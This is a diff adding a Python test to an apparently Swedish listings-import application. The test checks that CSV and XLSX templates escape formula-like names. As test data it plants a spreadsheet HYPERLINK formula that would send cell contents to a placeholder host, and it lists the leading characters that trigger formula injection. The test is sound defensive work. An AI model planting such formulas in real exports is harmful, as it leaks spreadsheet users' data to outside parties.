@@ -1,6 +1,7 @@
 """Bulk import of listings: reading CSV and XLSX, per-row errors in Swedish before anything is
 written, the import all or nothing, its progress, the template, and who may do it."""
 
+import csv
 import html
 import io
 import re
@@ -447,6 +448,27 @@ def test_the_templates_import_without_errors(client, auth, db, setting):
     assert "Skurups kommunhus" not in values  # only the user's own municipality's sites
     job = checked_import(client, db, response.get_data(), "mall.xlsx")
     assert job.total == 1 and job.rows[0]["details"]["weight_kg"] == 14.5
+
+
+def test_the_templates_write_no_formula_and_read_their_names_back(client, auth, db, setting, factory):
+    evil = '=HYPERLINK("https://example.invalid/?d="&A1,"Klicka här")'
+    factory.site(setting["ystad"], evil)
+    factory.category("@SUM(1+1)", name_en="Other")
+    auth.login(setting["manager"])
+
+    text = client.get("/catalog/import/template.csv").get_data().decode("utf-8-sig")
+    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
+    assert "'" + evil in cells  # the example row names the first site
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+    data = client.get("/catalog/import/template.xlsx").get_data()
+    workbook = load_workbook(io.BytesIO(data))  # formulas as written, not their values
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert {"'" + evil, "'@SUM(1+1)"} <= {cell.value for cell in cells}
+    # Filled in from the template, the names still mean the site and the category they name.
+    preview = check(db, setting, csv_bytes([chair_row(Plats="'" + evil, Kategori="'@SUM(1+1)")]))
+    assert preview.ok, preview.errors
 
 
 # --- Who may ---------------------------------------------------------------------------------
